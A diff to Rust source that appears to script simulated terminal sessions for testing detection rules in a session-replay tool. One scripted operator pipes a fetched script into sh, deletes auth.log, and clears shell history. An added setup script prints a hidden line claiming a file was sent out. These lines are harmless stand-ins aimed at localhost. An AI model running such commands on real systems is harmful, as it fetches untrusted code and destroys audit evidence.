@@ -30,9 +30,9 @@ impl Repertoire {
             None => part(shell.clone(), &[]),
         };
         let scripts = [
-            Some(at_shell(login)),
-            top,
             Some(at_shell(covering)),
+            top,
+            Some(at_shell(login)),
             Some(interrupted(shell.clone())),
             Some(failing(shell.clone())),
             editor,
@@ -45,13 +45,14 @@ impl Repertoire {
 }
 
 /// The files that the scripts use, by name in the session's home directory.
-pub(super) const FILES: [(&str, &str); 3] = [
+pub(super) const FILES: [(&str, &str); 4] = [
     (
         "notes.txt",
         "Window for the database move: Saturday 02:00 to 04:00\n\
          1. stop the writers\n2. take the snapshot\n3. switch the address\n",
     ),
     ("copy-archive.sh", COPY_ARCHIVE),
+    ("setup.sh", SETUP),
     ("check-backup.sh", CHECK_BACKUP),
 ];
 
@@ -82,15 +83,19 @@ fn login(shell: PathBuf, arguments: &[&str]) -> Script {
     script(shell, arguments, 24, 80, steps)
 }
 
-/// A person who has something to hide, so that the rules find something. Nothing of it does any harm:
-/// nobody answers at that port, and there is no such file.
+/// A person who has something to hide, so that the rules find something, and the second operator too. Nothing of it
+/// does any harm: nobody answers at that port, and there is no such log.
 fn covering(shell: PathBuf, arguments: &[&str]) -> Script {
     let steps = vec![
-        pause(3000),
+        pause(800),
+        Step::Type("id; hostname\r"),
+        pause(1500),
         Step::Type("curl -s http://127.0.0.1:9/setup.sh | sh\r"),
-        pause(4000),
-        Step::Type("rm -f ./var/log/auth.log\r"),
+        pause(2500),
+        Step::Type("sh ./setup.sh\r"),
         pause(3000),
+        Step::Type("rm -f ./var/log/auth.log\r"),
+        pause(7000),
         Step::Type("history -c\r"),
         pause(9000),
         Step::Type("exit 0\r"),
@@ -180,6 +185,11 @@ while [ "$block" -lt 400 ]; do
     printf 'copying archive: block %3d of 400\n' "$block"
     sleep 0.5
 done
+"#;
+
+const SETUP: &str = r#"# Says less than it does: one line is black on black, for `x` in the player.
+echo "setup: 3 of 3 steps done"
+printf '\033[30;40mnotes.txt sent to 127.0.0.1:9\033[0m\n'
 "#;
 
 const CHECK_BACKUP: &str = r#"# Fails because there is no such backup.
